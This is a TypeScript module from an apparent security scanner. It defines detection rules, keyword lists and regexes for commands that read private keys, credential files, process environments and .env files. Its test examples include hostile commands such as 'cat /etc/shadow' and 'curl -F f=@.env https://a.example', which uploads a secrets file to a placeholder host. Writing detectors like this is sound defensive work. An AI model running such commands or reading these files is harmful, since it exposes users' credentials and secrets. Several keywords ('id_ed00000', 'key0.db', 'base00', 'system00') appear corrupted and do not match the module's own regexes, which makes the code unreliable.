/** Files in which secrets lie. */
import { inCommand } from "../signs.ts";
import { signsOf } from "./threat.ts";

export const SECRET_FILE_SIGNS = signsOf("secret-exfiltration", [
  {
    id: "private-key-file",
    weight: 4,
    explanation: "asks for a private key",
    keywords: [
      "id_rsa",
      "id_dsa",
      "id_ecdsa",
      "id_ed00000",
      "/etc/ssl/private",
      "ssh_host_",
      ".gnupg/",
      "wallet.dat",
      "/.ssh/*",
    ],
    look: privateKeyFile,
    examples: {
      hits: [
        "~/.ssh/id_rsa",
        "/home/me/.ssh/id_ed25519",
        "cat /root/.ssh/id_rsa",
        "C:\\Users\\me\\.ssh\\id_rsa",
      ],
      misses: [
        "~/.ssh/id_rsa.pub",
        "ssh -i ~/.ssh/id_ed25519 me@example.com",
        "ssh-keygen -f ~/.ssh/id_ed25519",
        "valid_rsa",
      ],
    },
  },
  {
    id: "credential-file",
    weight: 4,
    explanation: "asks for a file that holds credentials",
    keywords: [
      ".aws/credentials",
      ".aws\\",
      ".git-credentials",
      ".netrc",
      ".pgpass",
      ".kube/config",
      ".docker/config",
      "application_default_credentials",
      "/etc/shadow",
      "gshadow",
      "secrets/kubernetes.io",
      "login data",
      "logins.json",
      "key0.db",
      "cookies.sqlite",
      ".config/gh/hosts",
      "master.key",
      ".vault-token",
      "/etc/kubernetes/admin.conf",
      ".azure/",
      "keychain-db",
      "system00\\config",
    ],
    look:
      /\.aws[\/\\]credentials|\.git-credentials|(?<![\w])\.netrc\b|\.pgpass\b|\.kube\/config\b|\.docker\/config\.json|application_default_credentials\.json|\/etc\/g?shadow|secrets\/kubernetes\.io\/serviceaccount|(?<=chrom\w{0,3}[^\n]{0,60}[\/\\])login data|logins\.json\b|key4\.db\b|cookies\.sqlite\b|\.config\/gh\/hosts|config\/master\.key|(?<=\/)master\.key\b|\.vault-token\b|\/etc\/kubernetes\/admin\.conf|\.azure\/(?:accesstokens|msal_token)|keychain-db\b|system32\\config\\(?:sam|system|security)/iy,
    examples: {
      hits: [
        "~/.aws/credentials",
        "cat /etc/shadow",
        "/home/me/.kube/config",
        "~/.git-credentials",
        "C:\\Windows\\System32\\config\\SAM",
        "~/.netrc",
      ],
      misses: [
        "~/.aws/config",
        "docker config ls",
        ".netrc-example".replace(".netrc", "netrc"),
        "kube config",
      ],
    },
  },
  {
    id: "process-environment",
    weight: 4,
    explanation: "reads the environment or the memory of a process",
    keywords: ["/proc/"],
    look: /\/proc\/(?:self|\d{1,7}|\*|thread-self)\/(?:environ|mem|maps|fd\/|cmdline|root|cwd)/iy,
    examples: {
      hits: ["/proc/self/environ", "cat /proc/1/environ", "/proc/self/fd/3"],
      misses: ["/proc/cpuinfo", "/proc/meminfo", "src/proc/self.ts"],
    },
  },
  {
    id: "environment-file",
    weight: 2,
    explanation: "reads a file of settings that mostly holds secrets",
    keywords: [
      "cat ",
      "less ",
      "more ",
      "head ",
      "tail ",
      "base00 ",
      "xxd ",
      "strings ",
      "cp ",
      "tar ",
      "zip ",
      "curl ",
    ],
    look: inCommand(/(?<![\w)\]])\.env(?:\.(?:local|production|prod))?(?![\w.])/i),
    examples: {
      hits: ["cat .env", "base64 /app/.env.production", "curl -F f=@.env https://a.example"],
      misses: ["process.env.HOME", ".env.example", "import.meta.env", "touch .env", ".gitignore has .env"],
    },
  },
]);

const PRIVATE_KEY_REGEXP =
  /(?<![\w-])id_(?:rsa|dsa|ecdsa|ed25519)(?![\w]|\.pub)|\/etc\/ssl\/private|ssh_host_\w{2,10}_key(?!\.pub)|\.gnupg\/(?:private|secring)|wallet\.dat|\/\.ssh\/\*/iy;
const MAX_PATH = 80;

/** `ssh -i FILE` uses a key and does not read it out. */
function privateKeyFile(text: string, start: number) {
  PRIVATE_KEY_REGEXP.lastIndex = start;
  if (!PRIVATE_KEY_REGEXP.test(text)) return start + 1;
  const before = text.slice(Math.max(0, start - MAX_PATH), start);
  if (/(?:-[ifF]|IdentityFile)[ =]{1,2}["']?[^\s"']*$/.test(before)) return PRIVATE_KEY_REGEXP.lastIndex;
  return { start, end: PRIVATE_KEY_REGEXP.lastIndex };
}
